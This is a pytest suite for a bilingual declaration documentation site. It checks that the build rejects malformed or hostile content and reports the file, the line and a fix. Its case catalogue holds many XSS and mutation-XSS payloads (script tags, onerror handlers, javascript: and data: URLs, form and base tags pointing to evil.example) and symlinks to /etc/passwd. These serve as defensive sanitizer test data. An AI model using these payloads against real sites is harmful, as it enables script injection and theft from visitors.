"""A catalogue of bad input: each case goes through a real build, which must stop and say
which file is wrong, what is wrong and how to fix it. No case may publish a site with
content silently missing.
"""

from __future__ import annotations

import json
import os
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.conftest import assert_refused, build_site, check, edit  # noqa: F401 - the project fixture comes from conftest
from tools.project import FIXTURE

def test_a_duplicate_paragraph_id(project):
    edit(project, "en/declaration/article-5.md", "(b) Adherence", "(a) Adherence")
    assert_refused(project, "declaration/article-5.md", "Duplicate id “art-5-a”", "line ")


def test_a_paragraph_label_that_cannot_be_read(project):
    edit(project, "en/declaration/article-6.md", "2\\. Everyone", "2) Everyone")
    assert_refused(project, "declaration/article-6.md", "cannot read the label", "line ")


def test_a_french_page_missing(project):
    (project / "docs/fr/declaration/article-9.md").unlink()
    assert_refused(project, "docs/fr/declaration/article-9.md: the French page is missing")


def test_a_french_page_with_one_paragraph_fewer(project):
    file = project / "docs/fr/declaration/article-6.md"
    text = file.read_text("utf-8")
    start, end = text.index("\n3\\."), text.index("\n4\\.")
    file.write_text(text[:start] + text[end:], "utf-8")
    assert_refused(project, "docs/fr/declaration/article-6.md lacks the ids art-6-3")


def test_an_undefined_footnote(project):
    edit(project, "en/declaration/article-9.md", "people-centred development.",
         "people-centred development.[^13]")
    assert_refused(project, "declaration/article-9.md", "footnote [^13], which is not defined")


def test_an_unused_footnote(project):
    file = project / "docs/en/declaration/article-13.md"
    file.write_text(file.read_text("utf-8") + "\n[^13]: A note nobody cites.\n", "utf-8")
    assert_refused(project, "docs/en/declaration/article-13.md", "[^13] is defined but never referenced")


def test_footnote_numbers_out_of_order(project):
    edit(project, "en/declaration/article-6.md", "realized.[^11]", "realized.[^9]")
    edit(project, "en/declaration/article-6.md", "[^11]: Ibid.", "[^9]: Ibid.")
    assert_refused(project, "docs/en/declaration/article-6.md, line", "footnote 9 comes after footnote 10")


def test_a_broken_internal_link(project):
    edit(project, "en/declaration/article-9.md", "people-centred development.",
         "people-centred development. [See](article-99.md)")
    assert_refused(project, "declaration/article-9.md", "article-99.md")


def test_a_link_to_a_missing_anchor(project):
    edit(project, "en/declaration/article-9.md", "people-centred development.",
         "people-centred development. [See](article-6.md#art-6-9)")
    assert_refused(project, "declaration/article-9.md", "#art-6-9")


def test_invalid_front_matter(project):
    edit(project, "fr/declaration/article-9.md", "title: Article 9", "title: Article 9: [oops")
    assert_refused(project, "docs/fr/declaration/article-9.md, line 3", "front matter is not valid")


def test_a_straight_quote_in_a_description(project):
    edit(project, "en/declaration/article-9.md", "description: ", 'description: The "human rights based approach" in ')
    assert_refused(project, "docs/en/declaration/article-9.md", "straight double quote")


def test_a_published_id_removed_without_an_alias(project):
    for language in ("en", "fr"):
        file = project / "docs" / language / "declaration/article-8.md"
        text = file.read_text("utf-8")
        file.write_text(text[:text.index("\n2\\.")] + "\n", "utf-8")
    assert_refused(project, "docs/en/declaration/article-8.md", "“art-8-2” has disappeared",
                   "alias")


def test_an_alias_keeps_a_removed_id_working(project):
    for language in ("en", "fr"):
        file = project / "docs" / language / "declaration/article-8.md"
        text = file.read_text("utf-8")
        file.write_text(text[:text.index("\n2\\.")] + "\n", "utf-8")
    registry = project / "anchors.yml"
    registry.write_text(registry.read_text("utf-8").replace(
        "aliases: {}", "aliases:\n  declaration/article-8.md:\n    art-8-2: art-8-1"), "utf-8")
    (project / "changelog.yml").write_text(  # withdrawing a paragraph is a declared correction
        "corrections:\n  - {id: art-8-2, page: declaration/article-8.md, language: en, "
        "date: 2026-11-30, kind: editorial, reason: Withdrawn.}\n", "utf-8")
    code, output = check(project)
    assert code == 0, output


def test_a_file_that_is_not_utf8(project):
    file = project / "docs/en/declaration/article-9.md"
    file.write_bytes(file.read_text("utf-8").replace("centred", "centr\u00e9").encode("latin-1"))
    assert_refused(project, "docs/en/declaration/article-9.md", "not UTF-8")


# The catalogue of refused input. Every case is written to its own file, so that one build
# of the English site reports them all (every file's first problem). Two builds: one of
# what the files show before anything is rendered (files, characters, size, front matter),
# which stops the build at once, and one of what content_safety finds as each page is
# rendered. Each case then asserts its own message: its file, its line, what is wrong, and
# a fix. Payloads follow the public mutation-XSS and sanitizer-bypass corpora (html5lib's
# tokenizer tests, DOMPurify's and OWASP's XSS filter evasion lists), adapted to Markdown.
HEAD = "---\ntitle: A case\ndescription: One bad input.\n---\n\n"  # the payload starts on line 6
LINE = 6


@dataclass(frozen=True)
class Case:
    kind: str
    what: str | tuple[str, ...]  # what the message says (each of several parts)
    payload: str = ""        # written after HEAD into docs/en/cases/<n>.md
    line: int | None = LINE  # None: a file's problem, which has no line
    file: str = ""           # for cases outside docs/en/cases/
    setup: object = None     # for cases that are not a page's text: setup(project)

    @property
    def before_rendering(self) -> bool:
        """Found in the files themselves, before any page is rendered (a character written
        as an HTML entity is found only in the rendered text)."""
        return (self.kind in ("file", "size", "front matter")
                or (self.kind == "character" and "&#" not in self.payload))

    def prepare(self, project: Path, number: int) -> str:
        if self.setup:
            self.setup(project)
            return self.file
        file = f"docs/en/cases/{number:02d}.md"
        # In both languages, so that the build checks the English page's content rather
        # than stopping at the missing French page.
        for language in ("en", "fr"):
            page = project / file.replace("/en/", f"/{language}/")
            page.parent.mkdir(exist_ok=True)
            page.write_text(HEAD + self.payload + "\n", "utf-8")
        return file


def _symlink(link: str, target: str):
    return lambda project: os.symlink(target, project / link)


def _write(path: str, text: str):
    return lambda project: (project / path).write_text(text, "utf-8")


def _edit(path: str, old: str, new: str):
    return lambda project: edit(project, path, old, new)


ARTICLE_9 = "en/declaration/article-9.md"
CASES = [
    # Elements outside the allowlist: scripts, frames, embeds, forms, head elements.
    Case("element", "<script> element", "<script>alert(1)</script>"),
    Case("element", "<iframe> element", '<iframe src="https://example.org/"></iframe>'),
    Case("element", "<object> element", '<object data="movie.swf"></object>'),
    Case("element", "<embed> element", '<embed src="movie.swf">'),
    Case("element", "<base> element", '<base href="https://evil.example/">'),
    Case("element", "<meta> element",
         '<meta http-equiv="refresh" content="0; url=https://evil.example/">'),
    Case("element", "<form> element",
         'Words <form action="https://evil.example/"><input name="q"></form>'),
    Case("element", "<link> element", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    Case("element", "<style> element", "<style>@import url(https://evil.example/x.css);</style>"),
    Case("element", "<body> element", "<body onpageshow=alert(1)>"),
    Case("element", "onerror=", "Words <img src=x onerror=alert(1)> words."),
    Case("element", "<img> element", "Words <img/src=x/onerror=alert(1)> words."),
    # Foreign content and raw-text elements: the classic mutation-XSS carriers.
    Case("foreign", "<svg> element", "<svg><script>alert(1)</script></svg>"),
    Case("foreign", "<math> element",
         "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    Case("foreign", "<svg> element",
         '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    Case("raw text", "<noscript> element",
         '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    Case("raw text", "<textarea> element", "<textarea><img src=x onerror=alert(1)></textarea>"),
    Case("raw text", "<title> element", "<title><img src=x onerror=alert(1)></title>"),
    Case("raw text", "<xmp> element", "<xmp><img src=x onerror=alert(1)></xmp>"),
    Case("raw text", "<noembed> element", "<noembed><img src=x onerror=alert(1)></noembed>"),
    Case("raw text", "<noframes> element", "<noframes><img src=x onerror=alert(1)></noframes>"),
    Case("raw text", "<plaintext> element", "<plaintext>"),
    # Comments and declarations that a browser reads differently from a naive scanner.
    Case("comment", "onerror=", "<!--><img src=x onerror=alert(1)>-->", line=10,
         file="docs/en/declaration/article-6.md",
         setup=_edit("en/declaration/article-6.md", "2\\. Everyone",
                     "<!--><img src=x onerror=alert(1)>-->\n\n2\\. Everyone")),
    Case("comment", "onerror=", "<!---><img src=x onerror=alert(1)>-->"),
    Case("comment", "onerror=", "<!-- note --!><img src=x onerror=alert(1)>-->"),
    Case("comment", "comment that is not well formed", "<!-- a <!-- b -->"),
    Case("comment", "does not open a comment", "<![CDATA[<img src=x onerror=alert(1)>]]>"),
    Case("comment", "not well formed", '<?xml-stylesheet href="https://evil.example/x.xsl"?>'),
    # Event handlers, styles, hidden words and the site's own classes on allowed elements.
    Case("attribute", "inline event handler (onmouseover=)",
         'Words <span onmouseover="alert(1)">here</span>.'),
    Case("attribute", "inline style", 'Words <span style="display:none">secret</span>.'),
    Case("attribute", "hidden=", "Words <span hidden>secret</span>."),
    Case("attribute", "“paragraph-label”", 'Words <span class="paragraph-label">(z)</span>.'),
    Case("attribute", "“dir=”", 'Words <abbr title="x" dir="rtl">UN</abbr>.'),
    Case("attribute", "id “__config”", 'Words <span id="__config">{}</span>.'),
    # URLs, read as a browser reads them, in links, reference definitions, autolinks, images.
    Case("url", "javascript: URL", "[here](javascript:alert(1))"),
    Case("url", "javascript: URL", "[here](JaVaScRiPt:alert(1))"),
    Case("url", "javascript: URL", "[here](java&#x09;script:alert(1))"),
    Case("url", "javascript: URL", "[here](&#106;avascript:alert(1))"),
    Case("url", "javascript: URL", "[here](javascript&colon;alert(1))"),
    Case("url", "vbscript: URL", "[here][ref]\n\n[ref]: vbscript:msgbox(1)", line=LINE + 2),
    Case("url", "data: URL", "[here](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    Case("url", "javascript: URL", '<span title="x"><a href=" &#14;javascript:alert(1)">x</a></span>'),
    Case("url", "<javascript:alert(1)> element", "<javascript:alert(1)>"),
    Case("url", "another site", "![chart](https://evil.example/pixel.png)"),
    Case("url", "another site", "![chart](//evil.example/pixel.png)"),
    Case("url", "another site", "![chart](/\\evil.example/pixel.png)"),
    # attr_list: ids and the listed classes only.
    Case("attr_list", "inline event handler (onclick=)", 'Words.\n{: onclick="alert(1)" }',
         line=LINE + 1),
    Case("attr_list", "inline style", 'Words.\n{: style="color: white" }', line=LINE + 1),
    Case("attr_list", "hidden=", "Words.\n{: hidden }", line=LINE + 1),
    Case("attr_list", "“paragraph-link”", "Words *here*{: .paragraph-link }."),
    Case("attr_list", "“data-cite=”", 'Words.\n{: data-cite="art. 99" }', line=LINE + 1),
    Case("attr_list", "id “__search”", "## Heading {: #__search }"),
    Case("attr_list", "“md-typeset”", '!!! md-typeset "Note"\n    Words.'),
    # Front matter: plain text, known keys.
    Case("front matter", "“title” contains “<”", line=2, file=f"docs/{ARTICLE_9}",
         setup=_edit(ARTICLE_9, "title: Article 9", "title: Article 9 <img src=x onerror=alert(1)>")),
    Case("front matter", "“description” contains “&”", line=3, file="docs/en/declaration/article-8.md",
         setup=_edit("en/declaration/article-8.md", "description: ",
                     "description: Safe &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt; ")),
    Case("front matter", "U+202E", line=2, file="docs/en/declaration/article-7.md",
         setup=_edit("en/declaration/article-7.md", "title: Article 7", 'title: "Article \\u202e7"')),
    Case("front matter", "“template”", line=4, file="docs/en/declaration/article-4.md",
         setup=_edit("en/declaration/article-4.md", "\n---\n", "\ntemplate: 404.html\n---\n")),
    # Files: Markdown pages only in the language folders, no symbolic link anywhere.
    Case("file", "symbolic link", line=None, file="docs/en/declaration/annex.txt",
         setup=_symlink("docs/en/declaration/annex.txt", "/etc/passwd")),
    Case("file", "symbolic link", line=None, file="docs/en/declaration/copy.md",
         setup=_symlink("docs/en/declaration/copy.md", "article-6.md")),
    Case("file", "symbolic link", line=None, file="docs/fr/system",
         setup=_symlink("docs/fr/system", "/etc")),
    Case("file", "only Markdown pages", line=None, file="docs/en/declaration/notes.html",
         setup=_write("docs/en/declaration/notes.html", "<script>alert(1)</script>")),
    Case("file", "only Markdown pages", line=None, file="docs/fr/chart.svg",
         setup=_write("docs/fr/chart.svg", "<svg onload=alert(1)></svg>")),
    Case("file", "not a language folder", line=None, file="docs/extra.html",
         setup=_write("docs/extra.html", "<script>alert(1)</script>")),
    # Characters that do not show, or reorder what does: named by line, column, code point.
    Case("character", ("Column 7 holds a bidirectional control character", "(U+202E"),
         "Words \u202edrow."),
    Case("character", ("Column 3 holds a bidirectional control character", "(U+2066"),
         "A \u2066B\u2069 C."),
    Case("character", ("Column 6 holds an invisible zero-width character", "(U+200B"),
         "solid\u200barity"),
    Case("character", ("Column 2 holds an invisible zero-width character", "(U+FEFF"), "a\ufeffb"),
    Case("character", ("Column 5 holds a control character", "(U+0007"), "Bell\u0007."),
    Case("character", ("Column 5 holds a control character", "(U+0085"), "Next\u0085line."),
    Case("character", "Column 6 holds a carriage return without a line feed", "Words\rwords."),
    Case("character", ("Column 2 holds an invisible formatting character", "(U+E0041"),
         "a\U000e0041b"),
    Case("character", ("bidirectional control character", "(U+202E"), "Words &#x202E;drow."),
    # Size.
    Case("size", "more than the 200 KB", line=1, file="docs/en/cases/large.md",
         setup=_write("docs/en/cases/large.md",
                      HEAD + "The same paragraph, again and again.\n\n" * 6000)),
    # A page included in another (the full text) is named itself, not the page including it.
    Case("wrong file", "inline event handler (onclick=)", line=8,
         file="docs/en/declaration/preamble.md",
         setup=_edit("en/declaration/preamble.md", "in larger freedom;",
                     "in larger freedom; <span onclick=alert(1)>here</span>")),
]


@pytest.mark.parametrize("before_rendering", [True, False],
                         ids=["before rendering", "while rendering"])
def test_every_bad_input_is_refused_with_its_file_line_and_fix(project, before_rendering):
    cases = [case for case in CASES if case.before_rendering == before_rendering]
    files = [case.prepare(project, number) for number, case in enumerate(cases)]
    code, output = check(project)
    assert code != 0, output
    messages = [line.strip().removeprefix("• ") for line in output.splitlines()
                if line.strip().startswith("• ")]
    missed = []
    for case, file in zip(cases, files):
        where = f"{file}, line {case.line}:" if case.line else f"{file}:"
        found = [message for message in messages if message.startswith(where)]
        parts = (case.what,) if isinstance(case.what, str) else case.what
        if not (found and all(part in found[0] for part in (*parts, "Fix:"))):
            missed.append(f"{case.kind} {case.payload or file!r}: expected {where} … {case.what}")
    assert not missed, "\n".join(missed) + "\n\nOutput:\n" + output
    # Nothing else was refused: no case hides another, and the real pages are fine. When the
    # pages are rendered, the cases' new pages are also reported as missing from the nav.
    not_in_nav = {message for message in messages if "is not in the navigation" in message}
    new_pages = {file for case, file in zip(cases, files) if not case.setup}
    assert {message.split(":")[0] for message in not_in_nav} == (
        set() if before_rendering else new_pages), output
    assert len(messages) - len(not_in_nav) == len(cases), output


def test_an_id_in_the_html_that_a_paragraph_also_has(project):
    """Found only once the paragraphs have their ids, as the page is rendered: still named
    by the file's own line."""
    edit(project, "en/declaration/article-5.md", "(a) ", '(a) <span id="art-5-b"></span>')
    assert_refused(project, "docs/en/declaration/article-5.md, line 10:", "“art-5-b” is given twice")


def _units(site: Path, page: str) -> list[tuple[str, str]]:
    data = json.loads((site / "data" / page).read_text("utf-8"))
    return [(unit["id"], unit["text"]) for unit in data["units"]]


def _published_units(page: str, language: str) -> list[tuple[str, str]]:
    """The units of a page of the fixture tree, as its first edition froze them."""
    edition = json.loads((FIXTURE / "editions" / "2026-11-22.json").read_text("utf-8"))
    [units] = [p["units"] for p in edition["languages"][language] if p["path"] == page]
    return [(unit["id"], unit["text"]) for unit in units]


def test_harmless_input_builds_with_the_text_intact(project, tmp_path):
    """A byte-order mark, CRLF line endings, an editor's comment inside a paragraph and form
    feeds (page breaks of extracted text) build, and every paragraph keeps its id and text."""
    article = project / "docs/en/declaration/article-9.md"
    article.write_bytes(b"\xef\xbb\xbf" + article.read_bytes())
    article = project / "docs/fr/declaration/article-10.md"
    article.write_bytes(article.read_bytes().replace(b"\n", b"\r\n"))
    edit(project, "en/declaration/article-6.md", "fundamental human right which",
         "fundamental <!-- checked against the original, p. 17 --> human right which")
    edit(project, "en/declaration/article-6.md", "\n\n2\\. Everyone", "\n\n\f\n\n2\\. Everyone")
    edit(project, "en/declaration/article-6.md", "in common the", "in common\fthe")
    built = tmp_path / "site"
    result = build_site(built, project / "mkdocs.yml", cwd=project)
    assert result.returncode == 0, result.stdout + result.stderr
    for page, language in (("declaration/article-9.md", "en"), ("declaration/article-10.md", "fr"),
                           ("declaration/article-6.md", "en")):
        data = page.removesuffix(".md") + f".{language}.json"
        assert _units(built, data) == _published_units(page, language), page
    html = (built / "declaration/article-6/index.html").read_text("utf-8")
    assert "<!-- checked against the original, p. 17 -->" in html
    assert "\f" not in html
